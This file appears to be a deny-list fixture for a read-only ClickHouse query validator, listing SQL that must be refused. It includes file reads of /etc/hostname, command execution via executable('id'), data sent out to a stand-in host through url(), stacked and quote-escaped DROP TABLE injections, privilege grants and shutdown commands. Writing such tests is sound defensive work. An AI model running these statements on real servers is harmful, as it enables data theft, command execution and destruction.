-- What somebody might try to get past a question, one a line: each has to be refused at every door.
SELECT * FROM file('/etc/hostname')
SELECT * FROM file('/etc/hostname', 'LineAsString', 'a String')
SELECT file('/etc/hostname')
SELECT (SELECT * FROM file('/etc/hostname', LineAsString))
WITH x AS (SELECT * FROM file('/etc/hostname', LineAsString)) SELECT * FROM x
SELECT Image FROM events WHERE Image IN (SELECT * FROM file('/etc/hostname', LineAsString))
SELECT Image FROM events UNION ALL SELECT * FROM file('/etc/hostname', LineAsString)
SELECT e.Image FROM events e JOIN file('/etc/hostname', LineAsString) f ON 1 = 1
SELECT e.Image FROM events e, file('/etc/hostname', LineAsString) f
SELECT Image FROM events WHERE EXISTS (SELECT 1 FROM file('/etc/hostname', LineAsString))
SELECT Image FROM events ORDER BY (SELECT * FROM file('/etc/hostname', LineAsString))
SELECT Image FROM events LIMIT (SELECT count() FROM file('/etc/hostname', LineAsString))
SELECT * FROM url('http://192.0.2.1/', CSV, 'a String')
SELECT * FROM urlCluster('c', 'http://192.0.2.1/', CSV)
SELECT * FROM s3('http://192.0.2.1/x', CSV)
SELECT * FROM hdfs('hdfs://192.0.2.1/x', CSV)
SELECT * FROM remote('192.0.2.1', system.one)
SELECT * FROM remoteSecure('192.0.2.1', system.one)
SELECT * FROM cluster('default', system.one)
SELECT * FROM mysql('192.0.2.1:3306', 'd', 't', 'u', 'p')
SELECT * FROM postgresql('192.0.2.1:5432', 'd', 't', 'u', 'p')
SELECT * FROM sqlite('/tmp/x', 't')
SELECT * FROM executable('id', CSV, 'a String')
SELECT * FROM executable('id', CSV, 'a String', (SELECT 1))
SELECT * FROM Python(x)
SELECT * FROM input('a String')
SELECT * FROM numbers(10)
SELECT * FROM generateRandom('a String')
SELECT * FROM view(SELECT 1)
SELECT * FROM merge('system', '.*')
SELECT * FROM values('a String', 'x')
SELECT * FROM dictionary('d')
SELECT * FROM loop(events)
SELECT * FROM mergeTreeIndex(carecordon, events)
SELECT * FROM null('x Int8')
SELECT * FROM '/etc/hostname'
SELECT * FROM `/etc/hostname`
INSERT INTO FUNCTION file('/tmp/x') SELECT 1
INSERT INTO FUNCTION url('http://192.0.2.1/', CSV, 'a String') SELECT CommandLine FROM events
INSERT INTO events SELECT * FROM events
INSERT INTO TABLE FUNCTION remote('192.0.2.1', a.b) SELECT 1
INSERT INTO events (Image) VALUES ('x')
INSERT INTO events FROM INFILE '/etc/hostname' FORMAT LineAsString
SELECT Image FROM events INTO OUTFILE '/tmp/x'
SELECT Image FROM events INTO OUTFILE '/tmp/x' TRUNCATE FORMAT CSV
DROP TABLE events
TRUNCATE TABLE events
ALTER TABLE events DELETE WHERE 1
DELETE FROM events WHERE 1
CREATE TABLE x (a Int8) ENGINE = URL('http://192.0.2.1/', CSV)
CREATE VIEW x AS SELECT 1
CREATE FUNCTION f AS (x) -> x
CREATE DATABASE d ENGINE = MySQL('192.0.2.1', 'd', 'u', 'p')
CREATE USER u
GRANT ALL ON *.* TO reader
ATTACH TABLE x FROM '/tmp/x' (a Int8) ENGINE = MergeTree ORDER BY a
BACKUP TABLE events TO File('/tmp/x')
RESTORE TABLE events FROM File('/tmp/x')
SYSTEM SHUTDOWN
SYSTEM STOP MERGES
KILL QUERY WHERE 1
SET max_threads = 100
USE system
SHOW TABLES
SHOW CREATE TABLE events
DESCRIBE TABLE events
DESCRIBE file('/etc/hostname')
EXPLAIN SELECT 1
EXISTS TABLE events
OPTIMIZE TABLE events FINAL
RENAME TABLE events TO e
CHECK TABLE events
WATCH events
EXECUTE AS admin SELECT 1
;
SELECT
SELECT 1; DROP TABLE events
SELECT 1;; SELECT 2
SELECT 1 FORMAT Null; DROP TABLE events
SELECT '\'; DROP TABLE events --'; DROP TABLE events
SELECT Image FROM events SETTINGS max_execution_time = 0
SELECT Image FROM (SELECT Image FROM events SETTINGS readonly = 0)
SELECT Image FROM events SETTINGS max_threads = 64 FORMAT CSV
SELECT Image FROM events FORMAT Protobuf SETTINGS format_schema = 'x'
SELECT Image FROM events FORMAT SQLInsert
SELECT * FROM system.tables
SELECT * FROM system.processes
SELECT * FROM information_schema.tables
SELECT * FROM default.events
SELECT * FROM carecordon.nothing
SELECT * FROM a.carecordon.events
SELECT * FROM `carecordon.events`
SELECT * FROM `system`.`one`
SELECT _part FROM events
SELECT _path FROM events
SELECT 1 AS _part, _part FROM events
SELECT * EXCEPT (Image) FROM events
SELECT * REPLACE (1 AS Image) FROM events
SELECT * APPLY (toString) FROM events
SELECT COLUMNS('.*') FROM events
SELECT events.* EXCEPT (Image) FROM events
WITH events AS (SELECT 1 AS Image) SELECT Image FROM events
SELECT getSetting('max_threads') FROM events
SELECT getMacro('x') FROM events
SELECT getClientHTTPHeader('x') FROM events
SELECT hostName() FROM events
SELECT currentUser() FROM events
SELECT user() FROM events
SELECT currentDatabase() FROM events
SELECT serverUUID() FROM events
SELECT uptime() FROM events
SELECT tcpPort() FROM events
SELECT buildId() FROM events
SELECT displayName() FROM events
SELECT queryID() FROM events
SELECT filesystemAvailable() FROM events
SELECT filesystemCapacity() FROM events
SELECT sleep(3) FROM events
SELECT sleepEachRow(1) FROM events
SELECT dictGet('d', 'a', 1) FROM events
SELECT joinGet('j', 'a', 1) FROM events
SELECT catboostEvaluate('/x', 1) FROM events
SELECT addressToLine(1) FROM events
SELECT addressToSymbol(1) FROM events
SELECT demangle('x') FROM events
SELECT evalMLMethod(1) FROM events
SELECT arrayMap(x -> file(x), ['a']) FROM events
SELECT arrayMap(x -> x, ['a']) FROM events
SELECT arrayFilter(x -> 1, ['a']) FROM events
SELECT initializeAggregation('sum', 1) FROM events
SELECT finalizeAggregation(1) FROM events
SELECT arrayReduce('sum', [1]) FROM events
SELECT runningDifference(1) FROM events
SELECT throwIf(1) FROM events
SELECT ignore(1) FROM events
SELECT materialize(1) FROM events
SELECT identity(1) FROM events
SELECT repeat('a', 1000000000) FROM events
SELECT range(1000000000) FROM events
SELECT space(1000000000) FROM events
SELECT randomString(1000000000) FROM events
SELECT generateUUIDv4() FROM events
SELECT rand() FROM events
SELECT bar(1,1,1) FROM events
SELECT hasColumnInTable('a','b','c') FROM events
SELECT currentProfiles() FROM events
SELECT encrypt('a','b','c') FROM events
SELECT decrypt('a','b','c') FROM events
SELECT toTypeName(1) FROM events
SELECT dumpColumnStructure(1) FROM events
SELECT CAST(1 AS Dynamic) FROM events
SELECT CAST('x' AS AggregateFunction(sum, Int64)) FROM events
SELECT 1::Nothing FROM events
SELECT toInt8('1') FROM events
SELECT (x -> x)(1) FROM events
SELECT count() FILTER (WHERE sleep(1)) FROM events
SELECT groupArrayIf(sleep(1), 1) FROM events
SELECT sumMap(fields) FROM events
SELECT Image FROM events PREWHERE 1 = 1
SELECT Image FROM events FINAL
SELECT Image FROM events SAMPLE 0.1
SELECT Image FROM events ARRAY JOIN mapKeys(fields) AS k
SELECT Image FROM events ORDER BY Image WITH FILL
SELECT Image FROM events GROUP BY Image WITH TOTALS
SELECT Image FROM events GROUP BY Image WITH CUBE
SELECT Image FROM events GROUP BY GROUPING SETS ((Image))
SELECT Image FROM events LIMIT 1 WITH TIES
SELECT Image FROM events QUALIFY 1 = 1
SELECT Image FROM events WINDOW w AS (ORDER BY time)
SELECT Image FROM events e ASOF JOIN events f ON e.time > f.time
SELECT Image FROM events e GLOBAL ANY LEFT JOIN events f ON e.time = f.time
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT n FROM x
WITH (SELECT 1) AS x SELECT x
SELECT @@version
SELECT {x:String}
SELECT {x:Identifier} FROM events
SELECT $$x$$ FROM events; DROP TABLE events
SELECT Image AS `a\`; DROP TABLE events --` FROM events
SELECT Image AS "a""b" FROM events
SELECT nowhere FROM events
SELECT x.Image FROM events
SELECT 0x1F FROM events e, system.one
